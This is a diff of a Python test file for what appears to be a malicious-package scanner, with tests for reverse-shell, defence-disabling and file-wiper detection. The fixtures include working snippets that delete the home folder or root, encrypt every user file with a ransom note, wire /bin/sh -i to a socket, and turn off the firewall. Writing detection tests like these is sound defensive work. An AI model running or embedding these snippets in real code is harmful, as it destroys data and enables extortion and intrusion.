@@ -319,7 +319,6 @@ def test_commands_from_a_socket_versus_a_local_control_socket() -> None:
     assert "PV-BEH-REVSHELL" not in ids(run(R, local))
 
 
-
 def test_a_socket_beside_a_fixed_command_versus_a_shell_on_the_socket() -> None:
     """A monitoring client talks to its agent over a socket and, elsewhere, runs ``netstat
     -an``: nothing received can choose what runs. A fixed ``/bin/sh -i`` wired to the same
@@ -330,6 +329,7 @@ def test_a_socket_beside_a_fixed_command_versus_a_shell_on_the_socket() -> None:
     for command in ("['/bin/sh', '-i']", "['python3', '-i']", "reply.decode()"):
         shell = py(head + f"p = subprocess.Popen({command}, stdin=s.fileno(), stdout=s.fileno())\n")
         assert severities(R, shell, "PV-BEH-REVSHELL") == [Severity.HIGH], command
+
 
 def test_a_port_probe_through_dev_tcp_is_no_shell() -> None:
     """pytest-testinfra checks that a port opens with ``cat < /dev/null > /dev/tcp/h/p``."""
@@ -510,3 +510,34 @@ def test_turning_off_antivirus_or_the_firewall_at_import_is_critical() -> None:
         "# run `netsh advfirewall set allprofiles state off` yourself if the port is blocked\nPORT = 80\n"
     )
     assert "PV-BEH-DEFENCE" not in ids(run(R, py(documented, path="acme/__init__.py")))
+
+
+def test_a_walk_of_the_home_folder_that_deletes_or_encrypts_is_a_wiper() -> None:
+    """Walking the whole home folder or a drive and deleting or encrypting what is found, as
+    the package loads, is destruction; a cache cleaner walks its own folder."""
+    wipers = {
+        "deletes": "import os\nfor r, d, fs in os.walk(os.path.expanduser('~')):\n"
+        "    for n in fs:\n        os.remove(os.path.join(r, n))\n",
+        "path": "from pathlib import Path\nfor p in Path.home().rglob('*.docx'):\n    p.unlink()\n",
+        "drive": "import glob, os\nfor p in glob.glob('C:\\\\**\\\\*', recursive=True):\n    os.remove(p)\n",
+        "root": "import os, shutil\nfor r, d, fs in os.walk('/'):\n    shutil.rmtree(r)\n",
+        "encrypts": "import os\nfrom cryptography.fernet import Fernet\nF = Fernet(Fernet.generate_key())\n"
+        "for r, d, fs in os.walk(os.environ['USERPROFILE']):\n    for n in fs:\n"
+        "        p = os.path.join(r, n)\n        open(p, 'wb').write(F.encrypt(open(p, 'rb').read()))\n",
+    }
+    for name, source in wipers.items():
+        assert severities(R, py(source), "PV-BEH-WIPER") == [Severity.CRITICAL], name
+    on_request = "import os\ndef wipe():\n" + "".join(
+        "    " + line + "\n" for line in wipers["deletes"].splitlines()[1:]
+    )
+    assert severities(R, py(on_request), "PV-BEH-WIPER") == [Severity.MEDIUM]
+    noted = on_request + "NOTE = 'Your files are encrypted. Send 0.1 BTC to get the decryption key'\n"
+    assert severities(R, py(noted), "PV-BEH-WIPER") == [Severity.HIGH]
+    cache = "import os\nfor r, d, fs in os.walk(os.path.expanduser('~/.cache/acme')):\n"
+    cache += "    for n in fs:\n        os.remove(n)\n"
+    backup = "import os\ndef seal(folder, f):\n    for r, d, fs in os.walk(folder):\n        for n in fs:\n"
+    backup += "            open(n + '.enc', 'wb').write(f.encrypt(open(n, 'rb').read()))\n"
+    results = "import glob, os\ndef clean(output_path):\n"
+    results += "    for p in glob.glob(f'{output_path}/**/*.json', recursive=True):\n        os.remove(p)\n"
+    for benign in (cache, backup, results):
+        assert "PV-BEH-WIPER" not in ids(run(R, py(benign))), benign
